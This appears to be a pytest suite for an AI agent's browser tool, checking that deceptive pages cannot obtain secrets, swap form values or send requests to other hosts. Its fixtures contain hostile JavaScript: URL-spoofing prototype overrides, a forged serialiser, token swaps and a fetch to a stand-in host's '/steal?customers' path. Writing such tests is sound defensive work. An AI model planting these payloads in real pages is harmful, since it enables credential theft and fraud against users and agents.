"""A page that lies about itself, changes behind our back or wants more than was permitted gains nothing."""

from __future__ import annotations

import pytest

from policies.action import BrowserRead, BrowserScreenshot, BrowserSubmit
from policies.errors import ActionFailed
from tests.tools.browser.conftest import BANK, PASSWORD, Hand
from tests.tools.browser.site import Site
from tools.browser.session import Browser
from tools.errors import ToolError

pytestmark = pytest.mark.asyncio(loop_scope="session")

SHOP_SECRET = frozenset({"shop"})
FORGED = """{url:'http://shop.example/login',tag:'input',type:'password',text:'',href:null,scripted:false,download:false,
editable:false,code:false,locked:false,options:[],submits:false,method:'',action:'',enctype:'',charset:'UTF-8',fields:[],
files:false,hidden:[],passwords:[],submitter:''}"""
LIES = {
    "its address": "Object.defineProperty(Document.prototype,'URL',{get(){return 'http://shop.example/login'}})",
    "its location": "Object.defineProperty(Node.prototype,'baseURI',{get(){return 'http://shop.example/login'}})",
    "everything": f"const real=JSON.stringify,said={FORGED};JSON.stringify=(x,...y)=>real(x&&x.tag?said:x,...y)",
}


@pytest.mark.parametrize("lie", LIES.values(), ids=LIES.keys())
async def test_a_page_that_lies_about_its_address_gets_no_password(hand: Hand, web: Site, lie: str) -> None:
    page = f"<script>{lie}</script><label>Password<input type=password></label>"
    await hand.open(web.show("/", page, host=BANK))
    action = await hand.do.resolve_fill("r1", hand.ref("Password"), "secret://shop")
    assert action.url == "http://bank.example/"
    with pytest.raises(ActionFailed, match=r"may not go to 'bank\.example'"):
        await hand.act(action, secrets=SHOP_SECRET)


async def test_a_page_cannot_hide_a_field_by_calling_it_a_password(hand: Hand, web: Site) -> None:
    lie = (
        "Object.defineProperty(HTMLInputElement.prototype,'type',{get(){return this.name==='iban'?'password':'text'}})"
    )
    form = "<form method=post action=/x><input name=iban value=EVIL-1234 aria-label=I><button>Go</button></form>"
    await hand.open(web.show("/", f"<script>{lie}</script>{form}"))
    action = await hand.do.resolve_click("r1", hand.ref('"Go"'))
    assert isinstance(action, BrowserSubmit) and [f.value for f in action.fields] == ["EVIL-1234"]


async def test_a_form_is_sent_only_from_the_address_it_was_judged_at(hand: Hand, web: Site) -> None:
    await hand.open(web.show("/", f"{FORM}<label>F<input oninput=\"history.pushState(0,'','/other')\"></label>"))
    action = await hand.do.resolve_click("r1", hand.ref('"Go"'))
    await hand.fill('"F"', "x")
    with pytest.raises(ActionFailed, match="changed since this was judged"):
        await hand.act(action)
    assert web.posted() == []


FORM = "<form method=post action=/done><input type=hidden name=a value=1><button>Go</button></form>"


@pytest.mark.parametrize("method", ["post", "get"])
async def test_after_a_form_has_left_its_page_changes_nothing_more(hand: Hand, web: Site, method: str) -> None:
    tries = "fetch('/delete',{method:'POST',body:'all=1'}).catch(()=>0).then(()=>o.textContent='over')"
    web.show("/done", f"<p id=o>done</p><script>{tries}</script>")
    await hand.open(web.show("/", FORM.replace("post", method)))
    text = await hand.click('"Go"')
    assert "over" in text and "note: blocked: POST shop.example" in text
    assert [seen.path for seen in web.posted()] == (["/done"] if method == "post" else [])


async def test_a_click_changes_nothing_at_another_host_than_its_own(hand: Hand, web: Site) -> None:
    send = "fetch('http://bank.example/in',{method:'POST',mode:'no-cors'}).catch(()=>0)"
    page = f"<button type=button onclick=\"{send}.then(()=>o.textContent='over')\">Save</button><p id=o>"
    await hand.open(web.show("/", page))
    text = await hand.click('"Save"')
    assert "over" in text and "note: blocked: POST bank.example" in text and web.posted() == []


TOKEN = """<form method=post action=/t><input name=amount value=1 aria-label=A>
<input type=hidden id=h name=payee_token value=GOOD-ACCOUNT-000000001><button>Send</button></form>"""


@pytest.mark.parametrize("swap", ["h.value='EVIL-ACCOUNT-999999999'", "location.reload()"])
async def test_a_token_that_changed_since_it_was_judged_is_not_sent(hand: Hand, web: Site, swap: str) -> None:
    await hand.open(web.show("/", f'{TOKEN}<label>F<input id=c oninput="{swap}"></label>'))
    action = await hand.do.resolve_click("r1", hand.ref('"Send"'))
    assert isinstance(action, BrowserSubmit) and action.fields[1].value == "(page token)"
    web.show("/", TOKEN.replace("GOOD-ACCOUNT-000000001", "EVIL-ACCOUNT-999999999"))
    await hand.fill('"F"', "x")
    with pytest.raises(ActionFailed, match="changed since this was judged"):
        await hand.act(action)
    assert web.posted() == []
    await hand.open("http://shop.example/")  # opened again by us, as after a restart: the server's own new token
    await hand.act(action)
    assert len(web.posted()) == 1


async def test_a_secret_is_typed_only_where_it_is_not_shown(hand: Hand, web: Site) -> None:
    fields = "<label>Search<input name=q></label><label>Note<textarea></textarea></label>"
    code = "<label>Code<input autocomplete=one-time-code></label>"
    await hand.open(web.show("/", fields + code))
    for words in ('"Search"', '"Note"'):
        with pytest.raises(ToolError, match="only into a password field"):
            await hand.do.resolve_fill("r1", hand.ref(words), "secret://shop")
    await hand.fill('"Code"', "secret://shop", secrets=SHOP_SECRET)


async def test_a_secret_never_goes_into_an_address(hand: Hand, web: Site) -> None:
    await hand.open(web.show("/", "<form><label>Pass<input name=p type=password></label><button>Go</button></form>"))
    await hand.fill('"Pass"', "secret://shop", secrets=SHOP_SECRET)
    with pytest.raises(ToolError, match="secret into an address"):
        await hand.do.resolve_click("r1", hand.ref('"Go"'))
    assert not any("made-up" in seen.path or PASSWORD in seen.path for seen in web.seen)


async def test_looking_replaces_no_file_that_something_else_made(hand: Hand, web: Site) -> None:
    web.answer("/a.csv", 200, {"Content-Type": "text/csv"}, b"a,b\n")
    url = web.show("/", "<a href=/a.csv>Export</a>")
    hand.files.write("report.xlsx", b"mine")
    await hand.open(url)
    export = await hand.do.resolve_download("r1", hand.ref('"Export"'), "report.xlsx")
    for action in (BrowserScreenshot(url=url, path="report.xlsx"), export):
        with pytest.raises(ActionFailed, match=r"a file 'report\.xlsx' already") as failed:
            await hand.act(action)
        assert not failed.value.may_have_acted
    assert hand.files.read("report.xlsx", limit_bytes=10) == b"mine"
    for _ in range(2):
        await hand.act(BrowserScreenshot(url=url, path="a.png"))
        await hand.act(await hand.do.resolve_download("r1", hand.ref('"Export"'), "a.csv"))
    with pytest.raises(ActionFailed, match="already"):
        await hand.act(BrowserScreenshot(url=url, path="a.csv"))


async def test_half_characters_of_a_page_are_shown_as_a_sign(hand: Hand, web: Site) -> None:
    script = "p.textContent='a\\ud800b';document.title='t\\udc00';b.textContent='x\\udfff';alert('\\ud801')"
    await hand.open(web.show("/", f"<p id=p></p><button id=b type=button></button><script>{script}</script>"))
    assert "a\ufffdb" in hand.text and "page: t\ufffd" in hand.text
    hand.text.encode()
    raw = await hand.act(BrowserRead(url="http://shop.example/"))
    raw.text.encode()


async def test_what_is_asked_about_is_loaded_only_by_the_permit_for_it(
    hand: Hand, web: Site, browser: Browser, monkeypatch: pytest.MonkeyPatch
) -> None:
    judge = browser._judge

    def asking(run: str, method: str, url: str, kind: str) -> bool | None:
        return None if url.startswith(f"http://{BANK}/") else judge(run, method, url, kind)

    await browser.close("r1")
    monkeypatch.setattr(browser, "_judge", asking)
    fetches = f"<script>fetch('http://{BANK}/steal?customers',{{mode:'no-cors'}}).catch(()=>0)</script>"
    await hand.open(web.show("/", f"customers{fetches}<img src=http://{BANK}/i><iframe src=http://{BANK}/f></iframe>"))
    assert not web.at(BANK)
    web.show("/", "<script src=/own.js></script><iframe src=/other></iframe><p>partner", host=BANK)
    assert "partner" in await hand.open(f"http://{BANK}/")
    assert {seen.path for seen in web.at(BANK)} <= {"/", "/own.js", "/favicon.ico"}
    assert "/own.js" in {seen.path for seen in web.at(BANK)}
    tab = browser.open_tab("r1")
    assert tab is not None
    await tab.page.evaluate("fetch('/later').catch(() => 0)")
    assert "partner" in (await hand.act(BrowserRead(url=f"http://{BANK}/"))).text
    assert "/later" not in {seen.path for seen in web.at(BANK)}
